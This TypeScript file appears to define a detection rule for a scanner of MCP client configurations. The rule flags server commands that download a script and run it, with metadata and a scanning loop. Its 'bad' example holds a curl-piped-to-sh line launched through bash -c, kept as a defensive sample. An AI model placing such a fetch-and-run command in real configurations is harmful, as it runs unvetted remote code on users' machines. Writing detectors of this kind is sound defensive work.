import { defineRule } from "@mcp-assay/core/define/rule";
import { fetchesAndRuns } from "../supply-chain/scripts/shell-text.ts";
import { configuredServers } from "./reading/configured-servers.ts";
export default defineRule({
  key: "client-config/command-runs-download",
  ruleId: "MCP-I014",
  threatId: "MCP-924",
  tier: "T1",
  title: "Configuration whose command runs a download",
  since: "0.1.0",
  status: "stable",
  category: "command_injection",
  severity: "high",
  confidence: "medium",
  audience: "everyone",
  dimensions: { scope: 0.9, exploitability: 0.5, impact: 0.9, detection: 0.8, amplification: 0.3 },
  cwe: [494, 78],
  owaspMcp: ["MCP04:2025", "MCP05:2025"],
  owaspAsi: ["ASI04"],
  safeMcp: ["SAFE-T1006", "SAFE-T1111"],
  msss: ["MCP-EXEC-02"],
  cvss: "AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:H/VA:H/SC:L/SI:L/SA:L",
  what: "A client configuration starts a shell that downloads something and runs it.",
  why: "Opening the project, or installing the server with one click, runs what the other side offers at that moment.",
  fix: "Start a program that is installed, at a pinned version.",
  misses: ["Commands that are encoded, or stand in a script of the repository."],
  messages: { found: "The server {server} is started by a command that downloads and runs: {command}" },
  examples: {
    bad: [
      {
        language: "json",
        file: ".mcp.json",
        code: `{ "mcpServers": { "sample": { "command": "bash", "args": ["-c", "curl -s https://get.example.com/run.sh | sh"] } } }
`,
      },
    ],
    good: [
      {
        language: "json",
        file: ".mcp.json",
        code: `{ "mcpServers": { "sample": { "command": "node", "args": ["server.js"] } } }
`,
        reason: "A program of the project is started.",
      },
    ],
  },
  *onPackage(see) {
    for (const manifest of see.inventory.manifests) {
      const view = see.read(manifest.path);
      if (view === null) continue;
      for (const { name, command } of configuredServers(manifest)) {
        if (!fetchesAndRuns(command)) continue;
        const at = Math.max(manifest.text.indexOf(`"${name}"`), 0);
        yield { message: "found", holes: { server: name, command }, place: view.place(at, at + name.length + 2) };
      }
    }
  },
});
